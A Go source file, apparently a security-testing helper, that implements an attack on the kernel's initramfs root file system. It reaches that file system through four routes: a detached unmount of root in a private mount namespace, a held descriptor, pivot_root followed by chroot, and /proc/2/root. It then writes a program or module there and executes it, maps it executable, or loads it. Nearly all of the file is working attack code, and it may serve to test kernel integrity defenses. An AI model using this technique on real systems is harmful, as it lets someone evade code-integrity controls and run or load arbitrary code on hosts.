package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"syscall"

	"golang.org/x/sys/unix"
)

// waysToRootfs lead root to the file system of the initrd, which stays in the kernel below the host's root file system
// and can be written to. Each returns the folder in which its content appears, for the calling thread.
var waysToRootfs = map[string]func() (string, error){
	"unmount":       unmountRoot,
	"descriptor":    holdRoot,
	"pivot":         pivotRoot,
	"kernel-thread": func() (string, error) { return "/proc/2/root/", nil },
}

// attackRootfs writes a program or a module to the initrd's file system, and runs it there, maps it executable or loads
// it.
func attackRootfs(way, action, program string) error {
	reach, known := waysToRootfs[way]
	if !known {
		return fmt.Errorf("%q is no way to the initrd's file system", way)
	}
	content, err := os.ReadFile(program)
	if err != nil {
		return err
	}
	null, err := unix.Open(os.DevNull, unix.O_RDWR, 0)
	if err != nil {
		return err
	}
	// Its root and its mounts are the thread's own from here, so no other goroutine may use it, and it ends with this
	// process.
	runtime.LockOSThread()
	folder, err := reach()
	if err != nil {
		// Not with the error itself: its name would be taken for the answer to the execution.
		return errors.New("not reached: " + err.Error())
	}
	file := folder + filepath.Base(program)
	if err := os.WriteFile(file, content, 0o755); err != nil {
		return errors.New("not written: " + err.Error())
	}
	switch action {
	case "run":
		return runWithout(file, uintptr(null))
	case "map":
		return mapExecutable(file)
	case "load":
		return loadModule(file)
	}
	return fmt.Errorf("%q is neither run, map nor load", action)
}

// unmountRoot detaches the root file system in a mount namespace of this thread. Entering that namespace again makes
// what lies below its root: the initrd's file system.
func unmountRoot() (string, error) {
	if err := ownMounts(); err != nil {
		return "", err
	}
	// Not /proc/self, which is the first thread of the process.
	namespace, err := unix.Open("/proc/thread-self/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
		return "", fmt.Errorf("umount: %w", err)
	}
	if err := unix.Setns(namespace, unix.CLONE_NEWNS); err != nil {
		return "", fmt.Errorf("setns: %w", err)
	}
	return "/", nil
}

// holdRoot keeps a descriptor of the initrd's file system, and goes back to the mounts of the host.
func holdRoot() (string, error) {
	host, err := unix.Open("/proc/thread-self/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	folder, err := unmountRoot()
	if err != nil {
		return "", err
	}
	root, err := unix.Open(folder, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	if err := unix.Setns(host, unix.CLONE_NEWNS); err != nil {
		return "", fmt.Errorf("setns back: %w", err)
	}
	return fmt.Sprintf("/proc/thread-self/fd/%d/", root), nil
}

// pivotRoot puts the root file system on top of itself and leaves it upwards.
func pivotRoot() (string, error) {
	if err := ownMounts(); err != nil {
		return "", err
	}
	if err := unix.Chdir("/"); err != nil {
		return "", err
	}
	if err := unix.PivotRoot(".", "."); err != nil {
		return "", fmt.Errorf("pivot_root: %w", err)
	}
	if err := unix.Chroot(".."); err != nil {
		return "", fmt.Errorf("chroot: %w", err)
	}
	return "/", nil
}

// ownMounts gives this thread mounts whose changes nobody else sees.
func ownMounts() error {
	if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
		return fmt.Errorf("unshare: %w", err)
	}
	return unix.Mount("none", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
}

// runWithout runs a program where there is no /dev: null is its input and output.
func runWithout(file string, null uintptr) error {
	child, err := syscall.ForkExec(file, []string{file, "do", "sleep", "0"}, &syscall.ProcAttr{Files: []uintptr{null, null, null}})
	if err != nil {
		return err
	}
	var status syscall.WaitStatus
	if _, err := syscall.Wait4(child, &status, 0, nil); err != nil {
		return err
	}
	if status.ExitStatus() != 0 {
		return errors.New("it ran, and failed")
	}
	return nil
}

// mapExecutable maps the beginning of a file as the dynamic loader maps code.
func mapExecutable(file string) error {
	opened, err := os.Open(file)
	if err != nil {
		return err
	}
	defer opened.Close()
	_, err = unix.Mmap(int(opened.Fd()), 0, os.Getpagesize(), unix.PROT_READ|unix.PROT_EXEC, unix.MAP_PRIVATE)
	return err
}
